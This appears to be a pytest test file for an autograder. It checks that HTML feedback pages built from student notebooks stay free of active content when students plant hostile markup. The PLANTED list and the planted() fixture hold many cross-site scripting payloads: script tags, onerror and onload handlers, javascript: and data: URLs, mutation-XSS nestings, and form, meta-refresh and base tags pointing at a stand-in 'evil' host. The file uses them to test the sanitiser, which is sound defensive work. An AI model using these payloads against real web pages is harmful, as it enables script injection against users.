"""What students plant in a notebook runs in nobody's browser: a feedback page has no active part that an honest one has not."""

import base64
import copy
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from autograder.instructor.course import api, make_course
from autograder.instructor.grade import grade_class
from autograder.instructor.pages import FILTERS
from autograder.instructor.texts import keep_pictures
from autograder.lessons import LESSONS

ASSIGNMENT = "receptive_field"
ACTIVE = {"script", "iframe", "object", "embed", "form", "base", "meta", "link", "svg", "math", "video", "audio", "input", "button", "frame"}
SCRIPT = "<script>alert(1)</script>"
PLANTED = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe><object data='data:text/html,<script>alert(1)</script>'></object>",
    "<a href='javascript:alert(1)'>a</a> [b](javascript:alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)>",
    "<style>@import 'http://evil'; * {background: url(javascript:alert(1))}</style><link rel=stylesheet href=http://evil>",
    "<form action=http://evil><input name=x><button>b</button></form><meta http-equiv=refresh content='0;url=http://evil'><base href=http://evil>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%' onmouseover=alert(1)>over everything</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "![x](x' onerror='alert(1)) ![y](attachment:evil.svg)",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode{x3c}script$$",
    "</textarea></script></title><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt; <scr<script>ipt>alert(1)</script>",
    "\u202e<\u0000script>alert(1)</script>",
]


class Page(HTMLParser):
    """The active parts of a page: tags, handlers of events, and addresses that run something."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.handlers = Counter(), []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags[tag] += tag in ACTIVE
        for name, value in attributes:
            address = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or address.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg")):
                self.handlers.append((tag, name, value))


def planted(released):
    """A notebook with everything planted everywhere: text, code, names, errors, outputs, metadata, attachments."""
    notebook = copy.deepcopy(released)
    for cell in notebook.cells:
        if cell.id == "reflection":
            cell.source = "\n\n".join(PLANTED)
        if cell.id == "compute_rf":
            cell.source = f"print({''.join(PLANTED)!r})\ndef compute_rf(layers):\n    raise type({SCRIPT!r}, (Exception,), {{}})({''.join(PLANTED)!r})"
        if cell.id == "rf_geometry":
            cell.source = f"def rf_geometry(layers):\n    return {PLANTED!r}"
        if cell.id == "input_window":
            cell.source = f"import matplotlib\nraise ValueError({PLANTED!r})  # {SCRIPT}"
    data = {"text/html": SCRIPT, "image/svg+xml": PLANTED[2], "application/javascript": "alert(1)", "text/markdown": PLANTED[4], "text/latex": PLANTED[12]}
    outputs = [new_output("display_data", data), new_output("stream", text=SCRIPT), new_output("error", ename=SCRIPT, evalue=SCRIPT, traceback=[SCRIPT])]
    notebook.cells += [new_markdown_cell(text) for text in PLANTED] + [new_raw_cell(text) for text in PLANTED]
    notebook.cells += [new_code_cell(f"# {SCRIPT}\nx = 1", outputs=outputs), new_markdown_cell("![y](attachment:evil.svg)")]
    notebook.cells[-1]["attachments"] = {"evil.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}}
    notebook.metadata |= {"title": SCRIPT, "authors": [{"name": SCRIPT}], "kernelspec": {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT}}
    notebook.metadata["language_info"] = {"name": SCRIPT, "pygments_lexer": "../../x", "codemirror_mode": SCRIPT}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {SCRIPT: {}}}}
    return notebook


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    folder = make_course(tmp_path_factory.mktemp("course"), [LESSONS[ASSIGNMENT]])
    assert api(folder).generate_assignment(ASSIGNMENT)["success"]
    released = nbformat.read(folder / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    for student, notebook in {"honest": released, "hostile": planted(released), "<img src=x onerror=alert(1)>": released}.items():
        path = folder / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(nbformat.writes(notebook), encoding="utf-8")
    assert grade_class(folder, ASSIGNMENT) == 0
    return folder


def page(course: Path, student: str) -> str:
    return (course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("student", ["hostile", "<img src=x onerror=alert(1)>"])
def test_a_page_has_no_active_part_that_an_honest_one_has_not(course, student):
    honest, found = Page(page(course, "honest")), Page(page(course, student))
    assert found.handlers == honest.handlers
    assert not found.tags - honest.tags


def test_the_words_that_were_planted_can_still_be_read(course):
    assert "over everything" in page(course, "hostile")


PIXEL = base64.b64encode(bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de")).decode()


@pytest.mark.parametrize(
    ("text", "attached", "shown"),
    [
        ("![p](attachment:my%20plot.png)", {"my plot.png": {"image/png": PIXEL}}, f"data:image/png;base64,{PIXEL}"),
        ("![p](attachment:a.png) ![q](attachment:a.png2)", {"a.png": {"image/png": PIXEL}, "a.png2": {"image/jpeg": PIXEL}}, f"data:image/jpeg;base64,{PIXEL}"),
        ("![p](attachment:lost.png) words", {}, "words"),
        ("![p](attachment\\:lost.png) words", {}, "words"),
        ("![p](&#97;ttachment:lost.png) words", {}, "words"),
        ("![p](attachment:x.svg) words", {"x.svg": {"image/svg+xml": "PHN2Zz4="}}, "words"),
        ("![p](attachment:x.png) words", {"x.png": {"image/png": "no base64 ' onerror=alert(1)"}}, "words"),
        ("![p](attachment:x.png) words", {"x.png": ["no", "dict"]}, "words"),
        ("> " * 2000 + "words", {}, "words"),
        ("[" * 5000 + "words", None, "words"),
    ],
)
def test_texts_can_be_shown_with_the_pictures_pasted_into_them(text, attached, shown):
    cell = new_markdown_cell(text)
    keep_pictures(cell, {"attachments": attached})
    body, _ = HTMLExporter(sanitize_html=True, filters=FILTERS).from_notebook_node(new_notebook(cells=[cell]))
    assert shown in body and not Page(body).handlers


def test_nothing_planted_is_left_in_the_autograded_notebook_but_the_students_own_cells(course):
    notebook = nbformat.read(course / "autograded" / "hostile" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    assert SCRIPT not in repr(notebook.metadata)
    assert not any(cell.get("attachments") for cell in notebook.cells)
    kinds = {kind for cell in notebook.cells for output in cell.get("outputs", []) for kind in output.get("data", {})}
    assert kinds <= {"text/plain", "text/html", "application/vnd.rfpack.verdict+json"}
